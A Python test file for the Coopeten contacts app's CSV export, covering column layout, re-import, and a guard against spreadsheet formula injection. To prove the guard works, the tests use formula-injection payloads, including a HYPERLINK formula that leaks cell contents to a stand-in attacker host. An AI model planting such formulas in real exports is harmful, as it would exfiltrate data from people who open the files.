"""Coopeten's own CSV export: layout, spreadsheet formula guard, and reading it back."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from coopeten_gui.services.contact_data import ContactData, Labeled, PostalAddress
from coopeten_gui.services.formats.csv_export import HEADER, guard, unguard, write_csv
from coopeten_gui.services.formats.csv_formats import parse_csv


def export(contacts: list[ContactData]) -> str:
    out = io.StringIO(newline="")
    assert write_csv(contacts, out) == len(contacts)
    return out.getvalue()


def cells_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def reimport(text: str, encoding: str = "utf-8") -> list[ContactData]:
    layout, headers, rows = parse_csv(text.encode(encoding))
    assert layout == "coopeten" and tuple(headers) == HEADER
    rows = list(rows)
    assert all(e is None for _, e in rows), rows
    return [c for c, _ in rows]


def test_layout_one_contact_a_row():
    ana = ContactData(
        given_name="Ana", family_name="Ruiz", organization_name="Flora", job_title="Gerente",
        emails=[Labeled("ana@flora.es", "work"), Labeled("ana@gmail.com", "")],
        phones=[Labeled("+34 600 123 456", "cell")],
        urls=[Labeled("https://flora.es", "work")],
        addresses=[PostalAddress("work", street="Mayor 1", city="Madrid"),
                   PostalAddress("home", city="Toledo", country="España")],
        birthday=date(1980, 5, 17), notes="Dos\nlíneas", tags=["vip", "cliente"])
    text = export([ana])
    assert text.splitlines()[0] == ",".join(HEADER)
    [row] = cells_of(text)
    assert row["Display Name"] == "Ana Ruiz"
    assert row["Emails"] == "ana@flora.es ::: ana@gmail.com"
    assert row["Email Labels"] == "work ::: "
    assert row["Phones"] == "'+34 600 123 456"
    assert row["Streets"] == "Mayor 1 ::: " and row["Cities"] == "Madrid ::: Toledo"
    assert row["Countries"] == " ::: España"
    assert row["Birthday"] == "1980-05-17" and row["Notes"] == "Dos\nlíneas"
    assert row["Tags"] == "vip ::: cliente"
    assert reimport(text) == [ana]


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example","click")', "+34 600 123 456", "-5 % de descuento",
    "@SUM(A1:A2)", "\tTabulado", "\rRetorno", "'=literal apostrophe formula",
    "'quoted'", "''", "'", "normal text", "",
])
def test_guard_is_undone_exactly(value):
    assert unguard(guard(value)) == value


def test_formula_cells_get_an_apostrophe_and_come_back_unchanged():
    evil = ContactData(
        given_name='=HYPERLINK("http://evil.example/?leak="&A1,"Ver")',
        family_name="@cmd", nickname="-2+3",
        phones=[Labeled("+34 600 123 456", "cell"), Labeled("+1 555 0100", "work")],
        notes="'=This note really starts with an apostrophe and an equals sign",
        organization_name="'Quoted' S.L.", tags=["+vip", "=x"])
    text = export([evil])
    [row] = cells_of(text)
    assert row["Given Name"].startswith("'=HYPERLINK(")
    assert row["Family Name"] == "'@cmd" and row["Nickname"] == "'-2+3"
    assert row["Phones"] == "'+34 600 123 456 ::: +1 555 0100"
    assert row["Notes"] == "''=This note really starts with an apostrophe and an equals sign"
    assert row["Organization"] == "''Quoted' S.L."
    assert row["Tags"] == "'+vip ::: =x"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert reimport(text) == [evil]


def test_plus_phone_number_round_trips():
    contact = ContactData(given_name="Luis", phones=[Labeled("+34 600 123 456")])
    [again] = reimport(export([contact]))
    assert again.phones == [Labeled("+34 600 123 456")]


def test_apostrophes_are_only_removed_from_our_own_export():
    data = (b"First Name,Last Name,E-mail Address,Mobile Phone\n"
            b"Ann,'Brien,ann@example.com,'+34 600 123 456\n")
    layout, _, rows = parse_csv(data)
    [(contact, _)] = list(rows)
    assert layout == "outlook"
    assert contact.family_name == "'Brien"
    assert contact.phones == [Labeled("'+34 600 123 456", "cell")]


def test_excel_resaved_with_semicolons_and_bom_is_still_recognised():
    contact = ContactData(given_name="Ana", family_name="Peña", phones=[Labeled("+34 600")],
                          notes="a; b, c")
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";")
    writer.writerow(HEADER)
    writer.writerow(next(csv.reader(io.StringIO(export([contact]).splitlines()[1]))))
    assert reimport(out.getvalue(), "utf-8-sig") == [contact]


def test_display_name_is_written_even_when_computed():
    text = export([ContactData(emails=[Labeled("solo@example.com")])])
    [row] = cells_of(text)
    assert row["Display Name"] == "solo@example.com"
    assert reimport(text) == [ContactData(emails=[Labeled("solo@example.com")])]


def test_an_empty_export_is_just_the_header():
    text = export([])
    assert text == ",".join(HEADER) + "\r\n"
    layout, headers, rows = parse_csv(text.encode())
    assert layout == "coopeten" and list(rows) == []
